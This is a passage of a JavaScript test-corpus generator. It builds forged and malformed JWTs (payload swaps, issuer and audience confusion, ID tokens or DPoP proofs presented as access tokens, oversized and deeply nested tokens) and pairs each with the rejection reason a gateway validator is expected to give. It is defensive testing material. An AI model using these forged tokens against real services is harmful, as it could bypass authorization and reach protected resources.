  const other = await jwt(A.ES256, claims({ sub: 'admin' }));
  add('signature', 'signature-from-another-token', withSignature(good, fromB64u(other.split('.')[2])),
      'REASON_SIGNATURE_MALFORMED', 'a valid ES256 signature of another token pasted onto an RS256 token');
  const es = await jwt(A.ES256, claims());
  const es2 = await jwt(A.ES256, claims({ sub: 'admin', scope: 'admin' }));
  add('signature', 'payload-swapped', `${es.split('.')[0]}.${es2.split('.')[1]}.${es.split('.')[2]}`,
      'REASON_SIGNATURE_INVALID', 'payload of an admin token under the signature of a user token (same key)');
}

// Time claims.
const timeCases = {
  'expired': [{ iat: NOW - 7200, nbf: NOW - 7200, exp: NOW - 3600 }, 'REASON_EXPIRED'],
  'expired-at-leeway-edge': [{ iat: NOW - 3600, nbf: NOW - 3600, exp: NOW - 60 }, 'REASON_EXPIRED'],
  'not-yet-valid': [{ nbf: NOW + 3600, exp: NOW + 7200 }, 'REASON_NOT_YET_VALID'],
  'iat-in-future': [{ iat: NOW + 3600, exp: NOW + 7200 }, 'REASON_IAT_IN_FUTURE'],
  'exp-missing': [{ exp: undefined }, 'REASON_EXP_MISSING'],
  'exp-string': [{ exp: String(NOW + 3600) }, 'REASON_CLAIM_WRONG_TYPE'],
  'exp-bool': [{ exp: true }, 'REASON_CLAIM_WRONG_TYPE'],
  'exp-null': [{ exp: null }, 'REASON_CLAIM_WRONG_TYPE'],
  'exp-array': [{ exp: [NOW + 3600] }, 'REASON_CLAIM_WRONG_TYPE'],
  'exp-object': [{ exp: { $date: NOW + 3600 } }, 'REASON_CLAIM_WRONG_TYPE'],
  'exp-negative': [{ exp: -1 }, 'REASON_CLAIM_WRONG_TYPE'],
  'exp-year-10000': [{ exp: 253402300800 }, 'REASON_CLAIM_WRONG_TYPE'],
  'exp-2-pow-63': [{ exp: 9223372036854775808 }, 'REASON_CLAIM_WRONG_TYPE'],
  'exp-1e300': [{ exp: 1e300 }, 'REASON_CLAIM_WRONG_TYPE'],
  'nbf-string': [{ nbf: 'yesterday' }, 'REASON_CLAIM_WRONG_TYPE'],
  'nbf-negative-overflow': [{ nbf: -1e300 }, 'REASON_CLAIM_WRONG_TYPE'],
  'iat-2-pow-64': [{ iat: 18446744073709551616 }, 'REASON_CLAIM_WRONG_TYPE'],
};
for (const [name, [over, reason]] of Object.entries(timeCases)) {
  add('time', `time-${name}`, await jwt(A.ES256, claims(over)), reason, `claims ${json(over)}`);
}
// Numbers JSON.stringify cannot write.
for (const [name, lit, reason] of [
  ['exp-1e400', '1e400', 'REASON_CLAIM_WRONG_TYPE'],
  ['exp-huge-integer', '1' + '0'.repeat(400), 'REASON_CLAIM_WRONG_TYPE'],
  ['exp-NaN', 'NaN', 'REASON_PAYLOAD_BAD_JSON'],
  ['exp-Infinity', 'Infinity', 'REASON_PAYLOAD_BAD_JSON'],
  ['exp-hex', '0x7fffffff', 'REASON_PAYLOAD_BAD_JSON'],
  ['exp-leading-plus', `+${NOW + 3600}`, 'REASON_PAYLOAD_BAD_JSON'],
]) {
  const payload = `{"iss":"${ISSUER_A}","sub":"u","aud":"${RESOURCE}","exp":${lit}}`;
  add('time', `time-${name}`, handBuilt(headerOf(A.ES256), payload, A.ES256), reason, `exp written as ${lit.length > 20 ? lit.slice(0, 20) + '…' : lit}`);
}

// Audience.
const audCases = {
  'wrong': ['https://other.attack.test/mcp', 'REASON_AUDIENCE_MISMATCH'],
  'missing': [undefined, 'REASON_AUDIENCE_MISSING'],
  'empty-array': [[], 'REASON_AUDIENCE_MISSING'],
  'empty-string': ['', 'REASON_AUDIENCE_MISMATCH'],
  'trailing-slash': [`${RESOURCE}/`, 'REASON_AUDIENCE_MISMATCH'],
  'host-uppercase': ['https://MCP.attack.test/mcp', 'REASON_AUDIENCE_MISMATCH'],
  'origin-only': ['https://mcp.attack.test', 'REASON_AUDIENCE_MISMATCH'],
  'prefix-extended': [`${RESOURCE}.evil.test`, 'REASON_AUDIENCE_MISMATCH'],
  'space-joined': [`https://other.test ${RESOURCE}`, 'REASON_AUDIENCE_MISMATCH'],
  'comma-joined': [`https://other.test,${RESOURCE}`, 'REASON_AUDIENCE_MISMATCH'],
  'wildcard': ['*', 'REASON_AUDIENCE_MISMATCH'],
  'nested-array': [[['https://other.test', RESOURCE]], 'REASON_CLAIM_WRONG_TYPE'],
  'array-with-object': [[RESOURCE, { aud: RESOURCE }], 'REASON_CLAIM_WRONG_TYPE'],
  'object': [{ 0: RESOURCE }, 'REASON_CLAIM_WRONG_TYPE'],
  'null': [null, 'REASON_CLAIM_WRONG_TYPE'],
  'number': [1, 'REASON_CLAIM_WRONG_TYPE'],
  'id-token-client-id': ['attack-client', 'REASON_AUDIENCE_MISMATCH'],
};
for (const [name, [aud, reason]] of Object.entries(audCases)) {
  add('audience', `aud-${name}`, await jwt(A.ES256, claims({ aud })), reason, `aud ${json(aud) ?? 'absent'}`);
}
add('audience', 'aud-other-route', await jwt(A.ES256, claims({ aud: RESOURCE })), 'REASON_AUDIENCE_MISMATCH',
    'a token for this resource presented to another resource the gateway serves',
    { resource: 'https://mcp.attack.test/admin' });

// Issuer.
add('issuer', 'issuer-mixup-a-kid', await jwt(A.ES256, claims({ iss: ISSUER_B })), 'REASON_KID_UNKNOWN',
    'names issuer B, signed by issuer A\'s key under A\'s kid (B\'s set has no such kid)');
add('issuer', 'issuer-mixup-b-kid', await jwt(A.ES256, claims({ iss: ISSUER_B }), { kid: B.kid }), 'REASON_SIGNATURE_INVALID',
    'names issuer B, signed by issuer A\'s key under B\'s kid');
add('issuer', 'issuer-mixup-no-kid', await jwt(A.ES256, claims({ iss: ISSUER_B }), { kid: undefined }), 'REASON_SIGNATURE_INVALID',
    'names issuer B, signed by issuer A\'s key, no kid: only B\'s keys are tried');
add('issuer', 'issuer-mixup-b-signs-for-a', await jwt(B, claims({ iss: ISSUER_A }), { kid: undefined }), 'REASON_SIGNATURE_INVALID',
    'names issuer A, signed by issuer B\'s key without kid');
for (const [name, iss, reason] of [
  ['trailing-slash', `${ISSUER_A}/`, 'REASON_ISSUER_UNKNOWN'],
  ['uppercase', ISSUER_A.toUpperCase(), 'REASON_ISSUER_UNKNOWN'],
  ['http-scheme', ISSUER_A.replace('https:', 'http:'), 'REASON_ISSUER_UNKNOWN'],
  ['trailing-space', `${ISSUER_A} `, 'REASON_ISSUER_UNKNOWN'],
  ['path-appended', `${ISSUER_A}/../b`, 'REASON_ISSUER_UNKNOWN'],
  ['default-port', 'https://as.attack.test:443', 'REASON_ISSUER_UNKNOWN'],
  ['missing', undefined, 'REASON_ISSUER_MISSING'],
  ['array', [ISSUER_A], 'REASON_CLAIM_WRONG_TYPE'],
  ['null', null, 'REASON_CLAIM_WRONG_TYPE'],
]) {
  add('issuer', `issuer-${name}`, await jwt(A.ES256, claims({ iss })), reason, `iss ${json(iss) ?? 'absent'}`);
}

// typ confusion.
for (const [name, typ, reason] of [
  ['dpop', 'dpop+jwt', 'REASON_TYP_INVALID'],
  ['application-dpop', 'application/dpop+jwt', 'REASON_TYP_INVALID'],
  ['logout', 'logout+jwt', 'REASON_TYP_INVALID'],
  ['secevent', 'secevent+jwt', 'REASON_TYP_INVALID'],
  ['jwe-type', 'JOSE', 'REASON_TYP_INVALID'],
  ['empty', '', 'REASON_TYP_INVALID'],
  ['number', 1, 'REASON_HEADER_PARAM_INVALID'],
]) {
  add('typ', `typ-${name}`, await jwt(A.ES256, claims(), { typ }), reason, `typ ${json(typ)}`);
}
// An OIDC ID token of the same issuer: typ JWT, aud = the client, nonce, at_hash.
add('typ', 'id-token', await jwt(A.ES256, claims({ aud: 'attack-client', nonce: 'n-0S6_WzA2Mj', at_hash: 'HK6E_P6Dh8Y93mRNtsDB1Q',
                                                    auth_time: NOW, scope: undefined }), { typ: 'JWT' }),
    'REASON_AUDIENCE_MISMATCH', 'an OpenID Connect ID token (aud is the client) presented as an access token');
add('typ', 'id-token-no-typ', await jwt(A.RS256, claims({ aud: ['attack-client'], nonce: 'abc', azp: 'attack-client' }), { typ: undefined }),
    'REASON_AUDIENCE_MISMATCH', 'an ID token without typ (aud array naming the client)');
{
  // A DPoP proof of the client's own key presented as the access token.
  const proofKey = await makeKey('ES256', undefined);
  const proof = await new SignJWT({ htm: 'POST', htu: RESOURCE, iat: NOW, jti: 'p1' })
    .setProtectedHeader({ alg: 'ES256', typ: 'dpop+jwt', jwk: { ...(await exportJWK(proofKey.publicKey)) } })
    .sign(proofKey.privateKey);
  add('typ', 'dpop-proof-as-access-token', proof, 'REASON_TYP_INVALID', 'a DPoP proof (jose) sent as the access token');
}

// Oversized.
{
  const big = await jwt(A.ES256, claims({ padding: 'x'.repeat(17 * 1024) }));
  add('size', 'token-over-16k', big, 'REASON_TOKEN_TOO_LARGE', `a validly signed ${big.length}-byte token`);
  add('size', 'header-over-16k', await jwt(A.ES256, claims(), { x: 'h'.repeat(13 * 1024) }), 'REASON_TOKEN_TOO_LARGE',
      'a 13 KiB header member (17 KiB once encoded)');
  add('size', 'header-11k-under-limit', await jwt(A.ES256, claims(), { kid: 'no-such-kid', x: 'h'.repeat(11 * 1024) }),
      'REASON_KID_UNKNOWN', 'a large (but under 16 KiB) header with an unknown kid: read, then refused on the kid');
  const deep = '['.repeat(5000) + ']'.repeat(5000);
  add('size', 'header-deeply-nested', handBuilt(`{"alg":"ES256","kid":"${A.ES256.kid}","x":${deep}}`, json(claims()), A.ES256),
      'REASON_HEADER_BAD_JSON', '5,000 nested arrays in a header member');
  add('size', 'payload-deeply-nested', handBuilt(headerOf(A.ES256), `{"iss":"${ISSUER_A}","x":${deep}}`, A.ES256),
      'REASON_PAYLOAD_BAD_JSON', '5,000 nested arrays in the payload');
  add('size', 'many-dots', `${'a.'.repeat(4000)}a`, 'REASON_JWT_MALFORMED', '4,001 segments');
}

// Decoded header and payload for readers (when the token decodes).
for (const c of cases) {
  const parts = c.token.split('.');
  if (parts.length !== 3 || c.token.length > 4096) continue;
  try {
    c.header = JSON.parse(fromB64u(parts[0]).toString('utf8'));
    c.payload = JSON.parse(fromB64u(parts[1]).toString('utf8'));
  } catch { /* hand-built bytes that are not JSON: the token says it all */ }
}

mkdirSync(outDir, { recursive: true });
const write = (name, value) => writeFileSync(join(outDir, name), JSON.stringify(value, null, 2) + '\n');
write('jwks-a.json', jwksA);
write('jwks-b.json', jwksB);
write('jwks-weak.json', jwksWeak);
write('attacker-jwks.json', attackerJwks);
write('tokens.json', {
  generator: `tests/attack/make_attack_corpus.mjs with jose ${joseVersion}`,
  now: NOW,
  issuers: { a: ISSUER_A, b: ISSUER_B, weak: ISSUER_W },
  resource: RESOURCE,
  attacker_origin: ATTACKER_ORIGIN,
  cases,
});
console.log(`wrote ${cases.length} cases to ${outDir}`);
